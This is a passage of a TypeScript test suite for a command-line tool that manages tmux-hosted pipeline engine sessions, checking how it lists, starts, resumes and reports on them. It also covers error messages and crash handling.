    expect(await listJson(root)).toMatchObject({ project: root, sessions: [], counts: {}, warnings: [] })
    // With one, a start that runs as printed.
    const engine = await makeEngineProject('empty')
    const next = (await listJson(engine)) as unknown as { next: { command: string }[] }
    expect(next.next).toEqual([{ command: hinted('start ralph my-session 25', engine), why: 'start a session' }])
    const printed = next.next[0].command.split(' ').slice(2)
    expect((await cli([...printed, '--yes'], { env: { MOCK_PACE: '5' } })).code).toBe(0)
  })

  test('from a subfolder: a pipeline resumes, and the files status names are named from there', async () => {
    const root = await makeEngineProject()
    const sub = path.join(root, 'src')
    mkdirSync(sub)
    // Each engine runs a second before it crashes: its start, on a loaded machine, must see it settle first.
    const env = { MOCK_PACE: '1', MOCK_END: 'crash:2' }
    expect((await cli(['start', 'pipeline', 'refine', 'pc', '--yes', '-C', root], { env })).code).toBe(0)
    expect((await cli(['start', 'ralph', 'lc', '5', '--yes', '-C', root], { env })).code).toBe(0)
    await waitFor('the crashes', async () => {
      const rows = (await listJson(root)).sessions
      return rowOf(rows, 'pc').health === 'crashed' && rowOf(rows, 'lc').health === 'crashed'
    })
    // The progress file is named as the shell in the subfolder finds it.
    const status = JSON.parse((await cli(['status', 'lc', '--json'], { cwd: sub })).stdout)
    expect(status.next).toContainEqual({ command: 'less ../.claude/pipeline-runs/lc/progress-lc.md', why: 'read what it did' })
    expect(existsSync(path.resolve(sub, '../.claude/pipeline-runs/lc/progress-lc.md'))).toBe(true)
    // The pipeline file the engine was given is found from the project root, not the subfolder.
    const resumed = await cli(['resume', 'pc', '--yes'], { cwd: sub, env: { MOCK_PACE: '5' } })
    expect(withoutWaits(resumed.stderr)).toBe('')
    expect(resumed.code).toBe(0)
  })

  test('hints run as printed: from the project root and from a subfolder, with --socket carried', async () => {
    const root = await makeProject('crashed-loop')
    const sub = path.join(root, 'src', 'deep')
    mkdirSync(sub, { recursive: true })
    for (const cwd of [root, sub]) {
      const run = await cli(['list', '--json', '--socket', SOCKET], { cwd })
      const row = rowOf(JSON.parse(run.stdout).sessions, 'busy')
      const words = row.resume_command!.split(' ')
      // The tool itself, as this process runs, then the command; -C only from the subfolder, --socket as given.
      expect(words.slice(2, 4)).toEqual(['resume', 'busy'])
      expect(words.includes('-C')).toBe(cwd !== root)
      if (cwd !== root) expect(path.resolve(cwd, words[words.indexOf('-C') + 1])).toBe(root)
      expect(words.slice(-2)).toEqual(['--socket', SOCKET])
      // Run as printed, from that folder: it reaches the same session.
      const status = await cli([...words.slice(2).map((w) => (w === 'resume' ? 'status' : w)), '--json'], { cwd })
      expect(JSON.parse(status.stdout)).toMatchObject({ name: 'busy', health: 'crashed' })
    }
    // Executed as printed by a shell, from the subfolder: the real entry.
    const printed = rowOf(JSON.parse((await cli(['list', '--json'], { cwd: sub })).stdout).sessions, 'busy').resume_command!
    const shell = spawnSync('sh', ['-c', `${printed.replace(' resume ', ' status ')} --json`], {
      cwd: sub,
      env: { ...ENV, PATH: `${path.join(HERE, 'node_modules', '.bin')}:${ENV.PATH}` },
      encoding: 'utf8',
    })
    expect(shell.stderr).toBe('')
    expect(JSON.parse(shell.stdout)).toMatchObject({ name: 'busy', health: 'crashed' })
  })

  test('the project root is found from a subfolder, and from --root', async () => {
    const root = await makeProject('complete-loop')
    const sub = path.join(root, 'src', 'deep')
    mkdirSync(sub, { recursive: true })
    const run = await cli(['list', '--json'], { cwd: sub })
    expect(JSON.parse(run.stdout).project).toBe(root)
    expect(JSON.parse((await cli(['list', '--json', '--root', root])).stdout).project).toBe(root)
  })

  test("the home folder is never taken for a project because of Claude Code's ~/.claude", async () => {
    const home = path.join(BASE, `home-${++projects}`)
    const work = path.join(home, 'work', 'repo')
    mkdirSync(path.join(home, '.claude'), { recursive: true })
    mkdirSync(work, { recursive: true })
    const run = await cli(['list', '--json'], { cwd: work, env: { HOME: home } })
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout).project).toBe(work)
  })

  test('a tmux session started in a nested project belongs to that project, not to the outer one', async () => {
    const outer = await makeProject('empty')
    const inner = path.join(outer, 'packages', 'inner')
    mkdirSync(path.join(inner, '.claude'), { recursive: true })
    tmux('new-session', '-d', '-s', 'pipeline-nested', '-c', inner, 'sleep 3600')
    tmux('new-session', '-d', '-s', 'pipeline-subdir', '-c', path.join(outer, 'packages'), 'sleep 3600')
    expect((await listJson(outer)).sessions.map((s) => s.name)).toEqual(['subdir'])
    expect((await listJson(inner)).sessions.map((s) => s.name)).toEqual(['nested'])
  })

  test('list calls tmux once, whatever the number of sessions', async () => {
    const root = await makeProject('prefix-names')
    cpSync(path.join(LAYOUTS, 'running-multistage/.claude'), path.join(root, '.claude'), { recursive: true })
    tmux('new-session', '-d', '-s', 'pipeline-multi', '-c', root, 'sleep 3600')
    const bin = path.join(BASE, 'bin')
    mkdirSync(bin, { recursive: true })
    const log = path.join(BASE, 'tmux-calls.log')
    const realTmux = execFileSync('sh', ['-c', 'command -v tmux'], { encoding: 'utf8' }).trim()
    writeFileSync(path.join(bin, 'tmux'), `#!/bin/sh\necho "$*" >> ${JSON.stringify(log)}\nexec ${realTmux} "$@"\n`, { mode: 0o755 })
    const run = await cli(['list', '--json', '-C', root], { env: { PATH: `${bin}:${process.env.PATH}` } })
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout).sessions).toHaveLength(3)
    expect(readFileSync(log, 'utf8').trim().split('\n')).toEqual([expect.stringMatching(/^-u -L \S+ list-sessions -F /)])
  })

  test('list as a library call returns the same data', async () => {
    const root = await makeProject('running-multistage')
    const result = await list({ root, socket: SOCKET })
    expect(result.project).toBe(root)
    expect(rowOf(result.sessions, 'multi')).toMatchObject({ health: 'running', stage_name: 'refine-tasks' })
    expect(result.counts).toEqual({ running: 1 })
  })
})

describe('status as a user runs it', () => {
  test('overview, progress, resources, files, iterations and next actions', async () => {
    const root = await makeProject('running-loop')
    const run = await cli(['status', 'busy', '-C', root])
    expect(run.code).toBe(0)
    const text = run.stdout
    expect(text).toMatch(/^busy: running/)
    for (const heading of ['Overview', 'Progress', 'Resources', 'Files', 'Last 2 iterations', 'Evidence', 'Next:']) {
      expect(text).toContain(`\n${heading}`)
    }
    expect(text).toMatch(/iteration\s+2 of 50/)
    expect(text).toMatch(/tmux\s+pipeline-busy · pane PID \d+ · 0 attached/)
    expect(text).toMatch(/lock\s+PID \d+ · alive · the engine \(kernel flock\)/)
    expect(text).toMatch(/progress\s+\.claude\/pipeline-runs\/busy\/progress-busy\.md/)
    expect(text).toMatch(/2\s+improve-plan\s+continue\s+.* ago\s+Mock iteration 2 completed/)
    // Evidence says its times as the screen does; the JSON keeps them ISO.
    expect(text).toMatch(/\n {2}- tmux session pipeline-busy alive \(pane PID \d+\), created \d+s ago\n/)
    expect(text.slice(text.indexOf('\nEvidence'))).not.toMatch(/\d{4}-\d\d-\d\dT/)
    expect(text).toMatch(
      new RegExp(
        `Next:\\n {2}${escaped(hinted('monitor busy --follow', root))} +follow its output\\n {2}${escaped(hinted('attach busy', root))} +watch it live`,
      ),
    )
  })

  test('--json carries the same, in snake_case', async () => {
    const root = await makeProject('crashed-loop')
    const run = await cli(['status', 'busy', '--json', '-C', root])
    expect(run.code).toBe(0)
    const json = JSON.parse(run.stdout)
    expect(json).toMatchObject({
      project: root,
      name: 'busy',
      health: 'crashed',
      iteration: 2,
      iteration_completed: 2,
      max_iterations: 50,
      resume_command: hinted('resume busy', root),
      files: {
        state: '.claude/pipeline-runs/busy/state.json',
        progress: '.claude/pipeline-runs/busy/progress-busy.md',
        lock: '.claude/locks/busy.lock',
      },
      last_event: { type: 'judge_complete' },
    })
    expect(json.recent_iterations).toHaveLength(2)
    expect(json.next[0]).toEqual({ command: hinted('resume busy', root), why: 'resume from iteration 3' })
  })

  test('a pipeline resumes from its pipeline file', async () => {
    const root = await makeProject('running-multistage')
    tmux('kill-session', '-t', '=pipeline-multi')
    const detail = await status('multi', { root })
    expect(detail.health).toBe('crashed')
    expect(detail.resume_command).toBe(hinted('resume multi', root))
  })

  test('an unknown name: exit 1, naming the project and the sessions that exist', async () => {
    const root = await makeProject('prefix-names')
    const run = await cli(['status', 'aut', '-C', root])
    expect(run.code).toBe(1)
    expect(run.stdout).toBe('')
    expect(run.stderr).toBe(`sessions: no session aut in ${root}; did you mean "auth"?; its sessions: auth, auth-v2\n`)
    await expect(status('aut', { root })).rejects.toThrow(SessionsError)
  })
})

describe('status reads every file the engine writes', () => {
  test('a parallel block without provider state files falls back to its manifest.json', async () => {
    const root = await makeProject('parallel-pipeline')
    const providers = path.join(root, '.claude/pipeline-runs/duo/parallel-00-analyze/providers')
    rmSync(path.join(providers, 'codex/state.json'))
    const detail = await status('duo', { root })
    const codex = detail.providers.find((p) => p.provider === 'codex')!
    expect(codex).toMatchObject({
      status: 'complete',
      problem: 'state.json: missing',
      block_completed_at: '2026-11-25T08:03:01Z',
      stages: [
        { name: 'improve', iterations: 1, termination_reason: 'fixed' },
        { name: 'elegance', iterations: 1, termination_reason: 'fixed' },
      ],
    })
    // The newest iteration's result.json gives each provider's last summary.
    const summary = JSON.parse(readFileSync(path.join(providers, 'claude/stage-01-elegance/iterations/001/result.json'), 'utf8')).summary
    expect(detail.providers.find((p) => p.provider === 'claude')!.last_summary).toBe(summary)
  })

  test('a summary missing from history comes from result.json, else from the older status.json', async () => {
    const root = await makeProject('complete-loop')
    const run = path.join(root, '.claude/pipeline-runs/done-loop')
    const state = JSON.parse(readFileSync(path.join(run, 'state.json'), 'utf8'))
    for (const entry of state.history) {
      delete entry.summary
      delete entry.decision
    }
    writeFileSync(path.join(run, 'state.json'), JSON.stringify(state))
    const iteration2 = path.join(run, 'stage-00-improve-plan/iterations/002')
    writeFileSync(
      path.join(iteration2, 'result.json'),
      JSON.stringify({ summary: 'from result.json', signals: { plateau_suspected: true, risk: 'low' } }),
    )
    const iteration1 = path.join(run, 'stage-00-improve-plan/iterations/001')
    rmSync(path.join(iteration1, 'result.json'))
    writeFileSync(path.join(iteration1, 'status.json'), JSON.stringify({ decision: 'continue', summary: 'from status.json' }))
    const detail = await status('done-loop', { root })
    expect(detail.recent_iterations.map((i) => [i.iteration, i.decision, i.summary])).toEqual([
      [3, 'continue', 'Mock iteration 3 completed'],
      [2, 'stop', 'from result.json'],
      [1, 'continue', 'from status.json'],
    ])
  })

  test('the iteration under way, from iteration_started', async () => {
    const root = await makeProject('running-loop')
    const file = path.join(root, '.claude/pipeline-runs/busy/state.json')
    const state = JSON.parse(readFileSync(file, 'utf8'))
    writeFileSync(file, JSON.stringify({ ...state, iteration: 3, iteration_started: isoSeconds(Date.now() - 125_000) }))
    const detail = await status('busy', { root })
    expect(detail.current_iteration).toMatchObject({ iteration: 3 })
    expect((await cli(['status', 'busy', '-C', root])).stdout).toMatch(/running\s+iteration 3 for 2m \d+s/)
  })
})

describe('processes', () => {
  test('liveness, start time and descendants of a real process tree', async () => {
    const before = Date.now()
    const child = spawn('sh', ['-c', 'sleep 300 & sleep 300 & wait'], { stdio: 'ignore' })
    children.push(child)
    // Both sleeps started: the tree is whole (never a fixed wait).
    await waitFor('both children', async () => (await processDescendants(child.pid!)).length === 2)
    expect(isPidAlive(child.pid!)).toBe(true)
    const started = await processStartTime(child.pid!)
    expect(started).not.toBeNull()
    expect(Math.abs(started! - before)).toBeLessThan(5_000)
    const below = await processDescendants(child.pid!)
    expect(below).toHaveLength(2)
    for (const pid of below) process.kill(pid, 'SIGKILL')
    expect(isPidAlive(await deadPid())).toBe(false)
    expect(isPidAlive(-1)).toBe(false)
  })
})

/** A project with the mock engine as its scripts/run.sh (and its stages and pipelines beside it). */
async function makeEngineProject(fixture = 'empty'): Promise<string> {
  const root = await makeProject(fixture)
  cpSync(ENGINE, path.join(root, 'scripts'), { recursive: true })
  return root
}

function readJson(file: string) {
  return JSON.parse(readFileSync(file, 'utf8'))
}

function records(file: string): { argv: string[]; env: Record<string, string>; pid: number }[] {
  return readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))
}

async function waitFor<T>(what: string, probe: () => T | Promise<T>, timeoutMs = 15_000): Promise<NonNullable<T>> {
  const deadline = Date.now() + timeoutMs
  for (;;) {
    // A probe that throws (a file not written yet) has simply not seen it yet.
    const value = await Promise.resolve()
      .then(probe)
      .catch(() => null)
    if (value) return value as NonNullable<T>
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`)
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

function paneText(target: string): string {
  return tmux('capture-pane', '-p', '-J', '-t', target)
}

/**
 * The CLI in a real terminal: a pane of the tests' tmux server, `width` by `height`, without colour unless
 * asked; "exit=N" is printed after it ends. `before` runs in the pane first.
 */
function terminal(
  name: string,
  args: string[],
  options: { width?: number; height?: number; env?: Record<string, string>; color?: boolean; before?: string } = {},
): void {
  const command = [TSX, SESSIONS, ...args].map((a) => `'${a}'`).join(' ')
  const vars = Object.entries({ ...(options.color ? {} : { NO_COLOR: '1' }), ...options.env }).flatMap(([k, v]) => ['-e', `${k}=${v}`])
  const run = `${options.before ? `${options.before}; ` : ''}${options.color ? 'env -u NO_COLOR ' : ''}${command}; echo "exit=$?"; sleep 3600`
  tmux('new-session', '-d', '-s', name, '-x', String(options.width ?? 150), '-y', String(options.height ?? 40), ...vars, run)
}

/**
 * Starts a session whose iteration 2 hangs in its agent, and returns once the engine has that agent
 * below it: a child (sh) with a child (sleep).
 */
async function startHungAgent(root: string, name: string, env: NodeJS.ProcessEnv = {}) {
  expect((await cli(['start', 'ralph', name, '--yes', '-C', root], { env: { MOCK_PACE: '0.2', MOCK_END: 'hang:2', ...env } })).code).toBe(0)
  const lock = path.join(root, `.claude/locks/${name}.lock`)
  const enginePid: number = readJson(lock).pid
  await waitFor('iteration 2', () => readJson(path.join(root, `.claude/pipeline-runs/${name}/state.json`)).iteration === 2)
  // The agents: below the engine, leaving out the mock's own node process (part of the engine, as the
  // real engine.sh runs its agents directly).
  const agents = await waitFor('the agent tree', async () => {
    const below = (await processDescendants(enginePid)).filter(
      (pid) => !/^node(-MainThread)?$/.test(readFileSync(`/proc/${pid}/comm`, 'utf8').trim()),
    )
    return below.length >= 2 ? below : null
  })
  return { lock, enginePid, agents }
}

describe('start', () => {
  test('a start that succeeds: tmux session, engine holding its lock, output kept, options on the command line', async () => {
    const root = await makeEngineProject()
    const record = path.join(BASE, `record-${projects}.jsonl`)
    writeFileSync(path.join(root, 'plan.md'), '# plan\n')
    const run = await cli(
      [
        'start',
        'ralph',
        'auth',
        '7',
        '--provider=codex',
        '--model=o3',
        '--context=Focus on error handling',
        '--input',
        'plan.md',
        '--yes',
        '-C',
        root,
      ],
      { cwd: root, env: { MOCK_PACE: '5', MOCK_RECORD: record } },
    )
    expect(withoutWaits(run.stderr)).toBe('')
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^✓ Started auth \(ralph, max 7\) in tmux session pipeline-auth, engine PID (\d+)\./)
    const pid = Number(/engine PID (\d+)/.exec(run.stdout)![1])
    expect(readJson(path.join(root, '.claude/locks/auth.lock')).pid).toBe(pid)
    expect(tmuxSessionNames()).toContain('pipeline-auth')
    // The engine runs in the pane (under the small shell that reports its exit status), in the project root.
    const [panePid, directory] = tmux('display-message', '-p', '-t', '=pipeline-auth:', '#{pane_pid} #{session_path}').trim().split(' ')
    expect(directory).toBe(root)
    expect(await processDescendants(Number(panePid))).toContain(pid)
    const [call] = records(record)
    expect(call.argv).toEqual([
      'ralph',
      'auth',
      '7',
      '--provider=codex',
      '--model=o3',
      '--context=Focus on error handling',
      '--input=plan.md',
      '--foreground',
    ])
    const log = path.join(root, '.claude/pipeline-runs/auth/session-output.log')
    await waitFor('the kept output', () => existsSync(log) && readFileSync(log, 'utf8').includes('Iteration 1 of 7'))
    expect(readFileSync(log, 'utf8')).toContain('Context: Focus on error handling')
    expect(rowOf((await listJson(root)).sessions, 'auth')).toMatchObject({ health: 'running', type: 'ralph', max_iterations: 7 })
  })

  test("options and the caller's environment arrive although a tmux server is already running", async () => {
    const root = await makeEngineProject()
    // A server that has been up for days, with its own stale environment.
    tmux('new-session', '-d', '-s', 'old', 'sleep 3600')
    tmux('set-environment', '-g', 'SESSIONS_TEST_STALE', 'from-the-old-server')
    tmux('set-environment', '-g', 'SESSIONS_TEST_VALUE', 'old')
    const record = path.join(BASE, `record-${projects}.jsonl`)
    const run = await cli(['start', 'pipeline', 'refine.yaml', 'pipe', '--model=sonnet', '--yes', '-C', root], {
      env: { MOCK_PACE: '5', MOCK_RECORD: record, SESSIONS_TEST_VALUE: 'new', SESSIONS_TEST_MULTI: 'a b\nc' },
    })
    expect(run.code).toBe(0)
    const [call] = records(record)
    expect(call.argv).toEqual(['pipeline', 'scripts/pipelines/refine.yaml', 'pipe', '--model=sonnet', '--foreground'])
    expect(call.env.SESSIONS_TEST_VALUE).toBe('new')
    expect(call.env.SESSIONS_TEST_MULTI).toBe('a b\nc')
    expect(call.env).not.toHaveProperty('SESSIONS_TEST_STALE')
    expect(rowOf((await listJson(root)).sessions, 'pipe')).toMatchObject({ health: 'running', mode: 'pipeline', type: 'refine' })
  })

  test('a start whose engine dies at once: its output and exit status shown, nothing left behind', async () => {
    const root = await makeEngineProject()
    const run = await cli(['start', 'ralph', 'quiet', '--yes', '-C', root], { env: { MOCK_END: 'silent' } })
    expect(run.code).toBe(1)
    expect(run.stdout).toBe('')
    expect(run.stderr).toContain('  mock engine: giving up at once, writing nothing')
    expect(run.stderr, run.stderr).toMatch(/sessions: the engine of quiet ended before it took its lock \(exit status 3\)\n$/)
    expect(tmuxSessionNames()).not.toContain('pipeline-quiet')
    expect(existsSync(path.join(root, '.claude/pipeline-runs/quiet'))).toBe(false)
  })

  test('refused starts say why and the way out, and change nothing', async () => {
    const root = await makeEngineProject('crashed-loop')
    // busy: crashed. live: a running session. lonely: a tmux session with no engine.
    expect((await cli(['start', 'ralph', 'live', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })).code).toBe(0)
    // Hung in iteration 1: from here on it writes nothing.
    await waitFor('iteration 1', () =>
      readFileSync(path.join(root, '.claude/pipeline-runs/live/session-output.log'), 'utf8').includes('Iteration 1 of'),
    )
    tmux('new-session', '-d', '-s', 'pipeline-lonely', '-c', root, 'sleep 3600')
    const before = [snapshot(root), tmuxSessionNames()]
    const cases: [string[], RegExp][] = [
      [
        ['start', 'ralph', 'live'],
        new RegExp(
          `session live is already running \\(engine PID \\d+ is alive\\): attach with "${escaped(hinted('attach live', root, root))}" or stop it with "${escaped(hinted('kill live', root, root))}"`,
        ),
      ],
      [['start', 'ralph', 'live', '--force'], /--force does not replace a live session; kill it first/],
      [
        ['start', 'ralph', 'lonely', '--start-grace', '0'],
        new RegExp(
          `tmux session pipeline-lonely already exists \\(orphaned: .*\\): remove it with "${escaped(hinted('kill lonely', root, root))}"`,
        ),
      ],
      [['start', 'ralph', 'lonely', '--start-grace', '30'], /session lonely is already starting \(tmux session \d+s old, no lock yet\)/],
      [
        ['start', 'improve-plan', 'busy', '50'],
        new RegExp(
          `session busy is crashed \\(lock left with dead PID \\d+\\): resume it with "${escaped(hinted('resume busy', root, root))}", or start afresh, the old run folder kept as busy\\.replaced-<time>, with "${escaped(hinted('start improve-plan busy 50 --force', root, root))}"`,
        ),
      ],
      [['start', 'ralph', 'fresh', '--resume'], /no earlier session fresh to resume/],
      [['start', 'nope', 'x'], /unknown stage type "nope"; stages in .*scripts\/stages: elegance, improve-plan, ralph, refine-tasks/],
      [['start', 'pipeline', 'nope.yaml', 'x'], /pipeline file not found: nope\.yaml .*; pipelines: refine\.yaml/],
      [['start', 'ralf', 'x'], /unknown stage type "ralf"; did you mean "ralph"\?; stages in /],
      [['start', 'pipeline', 'refin', 'x'], /pipeline file not found: refin .*; did you mean "refine"\?; pipelines: refine\.yaml/],
      [['start', 'ralph', 'x', '--runner=missing/run.sh'], /no engine runner: .*missing\/run\.sh \(from --runner\) is not a file/],
      [['start', 'ralph', 'x', '--input=missing.md'], /input not found: missing\.md/],
    ]
    for (const [args, message] of cases) {
      const run = await cli([...args, '--yes', '-C', root], { cwd: root })
      expect(run.code, args.join(' ')).toBe(1)
      expect(run.stderr).toMatch(message)
      expect(run.stderr.trimEnd().split('\n')).toHaveLength(1)
    }
    const usage: [string[], RegExp][] = [
      [['start', 'ralph', 'Bad'], /invalid name for a new session "Bad"/],
      [['start', 'ralph', '-x'], /unknown option '-x'/],
      [['start', 'ralph', 'x', '0'], /MAX must be a positive integer, got "0"/],
      [['start', 'ralph', 'x', 'many'], /MAX must be a positive integer, got "many"/],
      [['start', 'ralph'], /start: missing arguments/],
      [['start', 'ralph', 'x', '--resume', '--force'], /--resume and --force exclude each other/],
      [['start', '../x', 'y'], /invalid stage type "\.\.\/x"/],
    ]
    for (const [args, message] of usage) {
      const run = await cli([...args, '--yes', '-C', root], { cwd: root })
      expect(run.code, args.join(' ')).toBe(2)
      expect(run.stderr).toMatch(message)
    }
    expect([snapshot(root), tmuxSessionNames()]).toEqual(before)
  })

  test('--force on a crashed session keeps the old run folder aside, removes the stale lock, starts afresh', async () => {
    const root = await makeEngineProject('crashed-loop')
    const old = snapshot(path.join(root, '.claude/pipeline-runs/busy'))
    // A forced start that fails puts the old run folder back.
    const failed = await cli(['start', 'improve-plan', 'busy', '3', '--force', '--yes', '-C', root], { env: { MOCK_END: 'silent' } })
    expect(failed.code).toBe(1)
    expect(failed.stderr).toMatch(/ended before it took its lock \(exit status 3\); the old run folder is back in place\n$/)
    expect(snapshot(path.join(root, '.claude/pipeline-runs/busy'))).toEqual(old)
    expect(readdirSync(path.join(root, '.claude/pipeline-runs'))).toEqual(['busy'])
    const run = await cli(['start', 'improve-plan', 'busy', '3', '--force', '--yes', '--json', '-C', root], { env: { MOCK_PACE: '5' } })
    expect(run.code).toBe(0)
    const result = JSON.parse(run.stdout)
    expect(result.replaces).toMatch(/^\.claude\/pipeline-runs\/busy\.replaced-\d{8}T\d{6}Z$/)
    expect(snapshot(path.join(root, result.replaces))).toEqual(old)
    expect(readJson(path.join(root, '.claude/locks/busy.lock')).pid).toBe(result.engine_pid)
    const row = rowOf((await listJson(root)).sessions, 'busy')
    expect(row).toMatchObject({ health: 'running', max_iterations: 3 })
    expect((await listJson(root)).sessions.map((s) => s.name)).toEqual(['busy'])
    // Its engine outlives its tmux server (it is not the pane's foreground): this test ends it.
    expect((await cli(['kill', 'busy', '-C', root])).code).toBe(0)
  })

  test('a run over before start first sees its engine (MOCK_PACE=0) is a start that worked: said so, its output kept, no tmux session left', async () => {
    // Which of the two comes first, the engine's end or start's first look, is the machine's choice: each
    // outcome must be the truth (seen running: its PID; seen ended: how it ended), and the session ends the same.
    const root = await makeEngineProject()
    const run = await cli(['start', 'ralph', 'short', '1', '--yes', '--json', '-C', root], { env: { MOCK_PACE: '0' } })
    expect(withoutWaits(run.stderr)).toBe('')
    expect(run.code).toBe(0)
    const started = JSON.parse(run.stdout)
    expect(started).toMatchObject(
      started.engine_pid === null ? { name: 'short', ended: 'complete' } : { name: 'short', engine_pid: expect.any(Number), ended: null },
    )
    await waitFor('its output kept', () =>
      readFileSync(path.join(root, '.claude/pipeline-runs/short/session-output.log'), 'utf8').includes('Session short complete'),
    )
    await waitFor('no tmux session left', () => !tmuxSessionNames().includes('pipeline-short'))
    expect(rowOf((await listJson(root)).sessions, 'short').health).toBe('complete')
    // One that failed at once: started all the same (as one that fails a moment later); the text says how it ended.
    const failed = await cli(['start', 'ralph', 'brief', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0', MOCK_END: 'fail:1' } })
    expect(withoutWaits(failed.stderr)).toBe('')
    expect(failed.code).toBe(0)
    expect(failed.stdout).toMatch(
      /Started brief \(ralph, max 1\) in tmux session pipeline-brief, (already ended \(failed\)|engine PID \d+)\./,
    )
    if (failed.stdout.includes('already ended')) expect(failed.stdout).not.toContain('attach brief')
    await waitFor('brief failed', async () => rowOf((await listJson(root)).sessions, 'brief').health === 'failed')
    // One that died with its state saying running: a failed start that says what happened, its files kept
    // (or, seen running first, a start that worked, and then a crash).
    const died = await cli(['start', 'ralph', 'died', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0', MOCK_END: 'crash:1' } })
    if (died.code === 1)
      expect(died.stderr).toMatch(
        /the engine of died ended right after it started, its state still saying running \(exit status 137\); see "[^"]* status died -C [^"]+"\n$/,
      )
    else expect(died).toMatchObject({ code: 0, stderr: '' })
    await waitFor('died crashed', async () => rowOf((await listJson(root)).sessions, 'died').health === 'crashed')
  })

  test('a start believes only the run it began: a state touched or forged meanwhile, an engine started by hand beside it', async () => {
    const root = await makeEngineProject()
    expect((await cli(['start', 'ralph', 'gone', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0', MOCK_END: 'fail:1' } })).code).toBe(0)
    const state = path.join(root, '.claude/pipeline-runs/gone/state.json')
    // Its state touched all along (a backup, an editor): an engine that writes nothing is still a failed start.
    const toucher = setInterval(() => utimesSync(state, new Date(), new Date()), 20)
    const touched = await cli(['resume', 'gone', '--yes', '-C', root], { env: { MOCK_END: 'silent' } }).finally(() =>
      clearInterval(toucher),
    )
    expect(touched.code).toBe(1)
    expect(touched.stderr).toMatch(/the engine of gone ended before it took its lock \(exit status 3\)\n$/)
    // A state forged as complete under a new session's name, begun long ago or in the future: the same.
    for (const [name, when] of [
      ['forged', '2019-01-01T00:00:00Z'],
      ['future', '2030-01-01T00:00:00Z'],
    ]) {
      const forged = path.join(root, `.claude/pipeline-runs/${name}/state.json`)
      const forger = setInterval(() => {
        try {
          writeFileSync(forged, JSON.stringify({ session: name, status: 'complete', started_at: when }))
        } catch {
          /* its folder not made yet */
        }
      }, 20)
      const lie = await cli(['start', 'ralph', name, '1', '--yes', '--json', '-C', root], { env: { MOCK_END: 'silent' } }).finally(() =>
        clearInterval(forger),
      )
      expect(lie.code, when).toBe(1)
      expect(lie.stdout).toBe('')
    }
    // An engine of the same name started by hand while the resumed one reconciles: it holds the lock, and
    // it is not this start's engine (which dies on that lock).
    const byHand = await cli(['start', 'ralph', 'twin', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0', MOCK_END: 'fail:1' } })
    expect(byHand.code).toBe(0)
    const resumed = cli(['resume', 'twin', '--yes', '-C', root], { env: { MOCK_RECONCILE: '1.5', MOCK_PACE: '0.2' } })
    // Once the resume has launched its engine (past its own checks, which a lock being written would fail).
    await waitFor('the resumed engine reconciling', () => paneText('=pipeline-twin:').includes('Reconciling'))
    const beside = spawnGroup(path.join(root, 'scripts/run.sh'), ['ralph', 'twin', '3', '--resume', '--foreground'], {
      cwd: root,
      env: { ...ENV, MOCK_END: 'hang:1' },
      stdio: 'ignore',
    })
    try {
      const twin = await resumed
      expect(twin.code).toBe(1)
      expect(twin.stderr).toContain('is already running')
      expect(twin.stderr).toMatch(
        new RegExp(`the engine of twin ended \\(exit status 1\\) while another engine of twin holds its lock \\(PID ${beside.pid}\\)\\n$`),
      )
    } finally {
      // The engine and its agents: SIGTERM to the engine alone would leave its hung agent running.
      process.kill(-beside.pid!, 'SIGTERM')
    }
  })

  test('--resume continues a crashed session from iteration_completed + 1, with its max', async () => {
    const root = await makeEngineProject('crashed-loop')
    const record = path.join(BASE, `record-${projects}.jsonl`)
    const run = await cli(['start', 'improve-plan', 'busy', '--resume', '--yes', '-C', root], {
      env: { MOCK_PACE: '0.2', MOCK_RECORD: record },
    })
    expect(run.code).toBe(0)
    expect(records(record)[0].argv).toEqual(['improve-plan', 'busy', '50', '--resume', '--foreground'])
    await waitFor('iteration 3', () => readJson(path.join(root, '.claude/pipeline-runs/busy/state.json')).history.length >= 3)
    expect(
      readJson(path.join(root, '.claude/pipeline-runs/busy/state.json'))
        .history.map((h: { iteration: number }) => h.iteration)
        .slice(0, 3),
    ).toEqual([1, 2, 3])
  })

  test('in a terminal without --yes, it shows what will run and asks; n cancels, y starts', async () => {
    const root = await makeEngineProject()
    for (const answer of ['n', 'y']) {
      terminal(`ui-${answer}`, ['start', 'ralph', `asked-${answer}`, '12', '--provider=codex', '-C', root], { env: { MOCK_PACE: '5' } })
      await waitFor('the question', () => paneText(`=ui-${answer}:`).includes('Start it? [y/N]')).catch((error) => {
        throw new Error(`${error.message}; the screen:\n${paneText(`=ui-${answer}:`)}`)
      })
      const screen = paneText(`=ui-${answer}:`)
      expect(screen).toContain(`Start session asked-${answer}`)
      expect(screen).toMatch(/type\s+ralph/)
      expect(screen).toMatch(/max\s+12/)
      expect(screen).toMatch(/provider\s+codex/)
      tmux('send-keys', '-t', `=ui-${answer}:`, answer, 'Enter')
      await waitFor('the exit status', () => /exit=\d/.test(paneText(`=ui-${answer}:`)))
    }
    expect(paneText('=ui-n:')).toContain('start cancelled; nothing was changed')
    expect(paneText('=ui-n:')).toContain('exit=1')
    expect(existsSync(path.join(root, '.claude/pipeline-runs/asked-n'))).toBe(false)
    expect(paneText('=ui-y:')).toContain('exit=0')
    expect(rowOf((await listJson(root)).sessions, 'asked-y').health).toBe('running')
  })
})

describe('a start follows the engine; every wait speaks in one line; every line fits', () => {
  const abortAfter = (ms: number) => {
    const controller = new AbortController()
    setTimeout(() => controller.abort(), ms)
    return controller.signal
  }

  test('an engine that compiles before it writes its state settles, saying its phase; one past --wait-start runs on (exit 0), and leaves no dead pane', async () => {
    const root = await makeEngineProject()
    const slow = await cli(['start', 'pipeline', 'refine.yaml', 'docs', '--yes', '--json', '-C', root], {
      env: { MOCK_COMPILE: '2', MOCK_PACE: '0.1' },
    })
    expect(slow.code).toBe(0)
    expect(JSON.parse(slow.stdout)).toMatchObject({ settled: true, engine_pid: expect.any(Number), ended: null })
    // Off a terminal: a line once the wait has lasted a second, saying what it waits for and where the engine is
    // (on a loaded machine it may not have taken its lock yet by then).
